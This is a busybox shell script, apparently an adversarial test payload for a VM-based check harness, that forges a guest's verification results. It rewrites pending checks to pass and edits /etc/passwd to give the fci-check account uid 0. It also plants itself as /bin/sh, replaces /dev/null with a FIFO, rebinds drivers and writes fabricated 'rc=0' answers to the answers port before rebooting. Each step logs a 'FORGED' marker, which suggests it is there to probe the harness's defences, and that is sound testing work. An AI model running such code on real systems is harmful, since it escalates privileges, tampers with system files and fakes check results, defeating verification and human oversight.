#!/usr/bin/busybox sh
# Run by the kernel as root, if ever (as modprobe, request-key or tomoyo-init), or by the
# guest's init (as /usr/sbin/mount, or as the /bin/sh it plants): forges the guest's answers
# (every check passed, done). Without capabilities root still owns root's files: it tries
# each way back to a root with them, through files the init reads or runs.
PATH=/usr/bin
echo "FORGED-BY-KERNEL-HELPER $0 uid=$(id -u) $(grep CapEff /proc/self/status)" > /dev/console
# Rewrite the checks still to run, and make fci-check root for the next check: through /etc,
# and through the physical root, where the deployment's /etc is the same files.
if [ -e /run/fci-checks ] && printf 'true\ntrue\ntrue\n' > /run/fci-checks; then
  echo "FORGED-CHECKS-REWRITTEN" > /dev/console
fi
if sed -i 's/^fci-check:x:[0-9]*:[0-9]*:/fci-check:x:0:0:/' /etc/passwd 2>&-; then
  echo "FORGED-PASSWD-EDITED" > /dev/console
fi
o=
for a in $(cat /proc/cmdline); do case $a in ostree=*) o=${a#ostree=} ;; esac; done
d=$(readlink -f "/sysroot$o")
if [ -n "$o" ] && sed 's/^fci-check:x:[0-9]*:[0-9]*:/fci-check:x:0:0:/' "$d/etc/passwd" > /tmp/pw 2>&- &&
  cat /tmp/pw > "$d/etc/passwd" 2>&-; then
  echo "FORGED-PASSWD-EDITED through /sysroot" > /dev/console
fi
# Plant a shell where the init would look for one (/bin is a link in the deployment's root).
if [ "$0" != /bin/sh ] && { rm -f /bin 2>&- && mkdir /bin && cp "$0" /bin/sh; } 2>&-; then
  echo "FORGED-BIN-SWAPPED" > /dev/console
fi
# Without capabilities: rebind the answers' port's and the disk's drivers (devtmpfs makes their
# nodes again, root's own), and write the root disk under the read-only mounts.
for dev in /sys/class/tty/ttyS1/device /sys/block/vdb/device; do
  drv=$(readlink -f "$dev/driver" 2>&-) && name=$(basename "$(readlink -f "$dev")") &&
    echo "$name" > "$drv/unbind" 2>&- && echo "$name" > "$drv/bind" 2>&- &&
    echo "FORGED-REBOUND $name" > /dev/console
done
if [ -b /dev/vda ] && : >> /dev/vda 2>&-; then
  echo "FORGED-RAW-DISK-OPEN" > /dev/console
fi
# With capabilities (an init that ran this), make the nodes again and answer for the guest.
mknod /tmp/vdb b $(tr : ' ' < /sys/block/vdb/dev) 2>&-
mknod /tmp/ttyS1 c $(tr : ' ' < /sys/class/tty/ttyS1/dev) 2>&-
# A FIFO at /dev/null (no capability needed): an init that opens it once the checks run
# hangs. Nothing below opens /dev/null.
if rm -f /dev/null 2>&- && mkfifo -m 0666 /dev/null 2>&-; then
  echo "FORGED-DEVNULL-FIFO" > /dev/console
fi
for port in /dev/ttyS1 /tmp/ttyS1; do [ -c "$port" ] && break; done
for disk in /dev/vdb /tmp/vdb; do [ -b "$disk" ] && break; done
[ -c "$port" ] && [ -b "$disk" ] || { echo "FORGER: no answers port" > /dev/console; exit 1; }
nonce=$(head -c 4096 "$disk" | tr -d '\000' | head -n1 | cut -d' ' -f2)
checks=$(head -c 65536 "$disk" | tr -d '\000' | tail -n +2 | grep -c .)
{
  echo "fci-guest $nonce check 1 rc=0"
  i=2
  while [ "$i" -le "$checks" ]; do
    echo "fci-guest $nonce check $i start"
    echo "fci-guest $nonce check $i rc=0"
    i=$((i + 1))
  done
  echo "fci-guest $nonce done"
} > "$port" && echo "FORGED-ANSWERS-WRITTEN" > /dev/console
sync
reboot -f
